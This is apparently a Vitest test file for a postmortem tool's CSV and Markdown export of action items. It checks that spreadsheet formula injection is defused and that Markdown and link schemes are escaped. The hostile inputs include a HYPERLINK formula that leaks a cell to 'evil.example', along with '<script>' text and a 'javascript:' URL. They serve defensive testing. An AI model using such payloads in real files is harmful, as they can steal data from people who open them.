import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import {
  actionItemsCsv,
  actionItemsMarkdown,
  CSV_COLUMNS,
  issueMarkdown,
} from '../../../../shared/domain/actionItems/export';
import type { ActionItem } from '../../../../shared/types';

const meeting = { title: 'Stale product data', incidentId: 'INC-123' };

function item(overrides: Partial<ActionItem>): ActionItem {
  return {
    id: '00000000-0000-4000-8000-000000000001',
    meetingId: '00000000-0000-4000-8000-000000000000',
    createdAt: 0,
    updatedAt: 0,
    deletedAt: null,
    createdBy: 'test',
    title: 'Alert on API cache hit ratio',
    question: 'detect',
    type: 'detective',
    owner: 'Catalog team',
    dueDate: '2026-04-01',
    successMeasure: 'Alert fires in the staging drill',
    rank: 0,
    status: 'open',
    trackerUrl: '',
    ...overrides,
  };
}

const items = [
  item({
    id: '00000000-0000-4000-8000-000000000002',
    rank: 1,
    title: 'Never cache /api paths, "ever"',
    type: 'preventative',
    question: null,
    owner: '',
    dueDate: null,
    successMeasure: '',
    status: 'done',
  }),
  item({ rank: 0 }),
  item({ id: '00000000-0000-4000-8000-000000000003', rank: 2, title: 'Deleted', deletedAt: 5 }),
];

describe('actionItemsCsv', () => {
  it('writes one row per live item in priority order, with the documented columns, that reads back intact', () => {
    const csv = actionItemsCsv(items, meeting);
    const parsed = Papa.parse<string[]>(csv.trimEnd(), { header: false });
    expect(parsed.errors).toEqual([]);
    const [header, ...rows] = parsed.data;
    expect(header).toEqual([...CSV_COLUMNS]);
    expect(rows).toEqual([
      [
        'Alert on API cache hit ratio',
        'Success measure: Alert fires in the staging drill\nType: Detective\nAnswers: Detect earlier\nFrom the postmortem: Stale product data (INC-123)',
        'Catalog team',
        '2026-04-01',
        '1',
        'Task',
        'Open',
        'postmortem',
        'detective',
        'INC-123',
        'Alert fires in the staging drill',
        '',
        '00000000-0000-4000-8000-000000000001',
      ],
      [
        'Never cache /api paths, "ever"',
        'Success measure: not set yet\nType: Preventative\nFrom the postmortem: Stale product data (INC-123)',
        '',
        '',
        '2',
        'Task',
        'Done',
        'postmortem',
        'preventative',
        'INC-123',
        '',
        '',
        '00000000-0000-4000-8000-000000000002',
      ],
    ]);
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it('defuses a title a spreadsheet would run as a formula', () => {
    const csv = actionItemsCsv([item({ title: '=HYPERLINK("http://x")' })], meeting);
    const [, row] = Papa.parse<string[]>(csv.trimEnd()).data;
    expect(row![0]).toBe(`'=HYPERLINK("http://x")`);
  });

  // Issue 11 point 3: papaparse's own guard does not match a value holding a newline, and a
  // spreadsheet evaluated these (a cell showed 6, another became a link).
  it.each([
    ['a formula followed by a newline', '=2*3\n'],
    ['a formula on the second line', '\n=1+1'],
    ['a link formula then a newline', '=HYPERLINK("http://evil.example/leak?"&A2,"Details")\n'],
    ['a formula after spaces', '   +1+1'],
    ['a formula on an indented later line', 'Fine title\r\n  @SUM(A1)'],
    ['a minus formula on a later line', 'ok\n-2+3'],
    ['a leading tab', '\tcell'],
    ['a leading carriage return', '\rcell'],
  ])('defuses %s in every column it can reach', (_name, hostile) => {
    const csv = actionItemsCsv(
      [item({ title: hostile, owner: hostile, successMeasure: hostile, trackerUrl: hostile })],
      { title: hostile, incidentId: '' },
    );
    const [, row] = Papa.parse<string[]>(csv.trimEnd()).data;
    for (const column of [0, 2, 10, 11]) expect(row![column]!.startsWith("'")).toBe(true);
  });

  it('defuses the description when a success measure puts a formula at the start of a line', () => {
    const csv = actionItemsCsv([item({ successMeasure: 'Alert fires\n=1+1' })], meeting);
    const [, row] = Papa.parse<string[]>(csv.trimEnd()).data;
    expect(row![1]).toMatch(/^'Success measure: Alert fires\n=1\+1\n/);
  });

  it('leaves ordinary text, including inner signs, as it is', () => {
    const csv = actionItemsCsv(
      [item({ title: 'Alert when p99 > 2s - page on-call', owner: 'A+B team' })],
      meeting,
    );
    const [, row] = Papa.parse<string[]>(csv.trimEnd()).data;
    expect(row!.slice(0, 3)).toEqual(['Alert when p99 > 2s - page on-call', expect.any(String), 'A+B team']);
  });
});

describe('actionItemsMarkdown', () => {
  it('writes a task list in priority order with owner, due date, type and measure', () => {
    expect(actionItemsMarkdown(items, meeting)).toBe(
      [
        '## Action items: Stale product data (INC-123)',
        '',
        '- [ ] **1. Alert on API cache hit ratio**',
        '  - Owner: Catalog team · Due: 2026-04-01 · Detective · Open · answers “Detect earlier”',
        '  - Success measure: Alert fires in the staging drill',
        '- [x] **2. Never cache /api paths, "ever"**',
        '  - Owner: — · Due: — · Preventative · Done',
        '',
      ].join('\n'),
    );
  });

  it('strikes through an item nobody will do and escapes Markdown in what people typed', () => {
    const markdown = actionItemsMarkdown(
      [
        item({
          title: 'Drop *all* <script> rules',
          status: 'wont-do',
          trackerUrl: 'https://jira.example.com/browse/OPS-1',
        }),
      ],
      meeting,
    );
    expect(markdown).toContain("- [x] **1. ~~Drop \\*all\\* \\<script\\> rules~~ (won't do)**");
    expect(markdown).toContain('  - Tracker: <https://jira.example.com/browse/OPS-1>');
  });

  it('says so when there are no items', () => {
    expect(actionItemsMarkdown([], { title: 'Quiet', incidentId: '' })).toBe(
      '## Action items: Quiet\n\nNo action items.\n',
    );
  });
});

describe('issueMarkdown', () => {
  it('gives the title as a heading, what done means, who and when, and the postmortem', () => {
    expect(issueMarkdown(item({}), meeting)).toBe(
      [
        '### Alert on API cache hit ratio',
        '',
        '- **Success measure:** Alert fires in the staging drill',
        '- **Owner:** Catalog team',
        '- **Due:** 2026-04-01',
        '- **Type:** Detective, answers “Detect earlier”',
        '',
        'From the postmortem “Stale product data (INC-123)”.',
        '',
      ].join('\n'),
    );
  });

  it('says what is not set yet, links the tracker and escapes Markdown in what people typed', () => {
    const markdown = issueMarkdown(
      item({
        title: 'Drop *all* <script> rules',
        owner: '',
        dueDate: null,
        successMeasure: '',
        question: null,
        type: 'process-improvement',
        trackerUrl: 'https://jira.example.com/browse/OPS-1',
      }),
      { title: 'Quiet', incidentId: '' },
    );
    expect(markdown).toContain('### Drop \\*all\\* \\<script\\> rules\n');
    expect(markdown).toContain(
      '- **Success measure:** not set yet\n- **Owner:** not set yet\n- **Due:** not set yet',
    );
    expect(markdown).toContain(
      '- **Type:** Process improvement\n- **Tracker:** <https://jira.example.com/browse/OPS-1>',
    );
    expect(markdown).toContain('From the postmortem “Quiet”.');
  });

  it('links only an http(s) tracker URL: a key or another scheme stays visible text, never a link', () => {
    const tracker = (trackerUrl: string) =>
      issueMarkdown(item({ trackerUrl }), meeting)
        .split('\n')
        .find((line) => line.startsWith('- **Tracker:**'));
    expect(tracker('OPS-12')).toBe('- **Tracker:** OPS-12');
    expect(tracker('javascript:alert(1)')).toBe('- **Tracker:** javascript:alert(1)');
    expect(tracker('<b>OPS-12</b>')).toBe('- **Tracker:** \\<b\\>OPS-12\\</b\\>');
    expect(actionItemsMarkdown([item({ trackerUrl: 'OPS-12' })], meeting)).toContain('  - Tracker: OPS-12\n');
  });
});
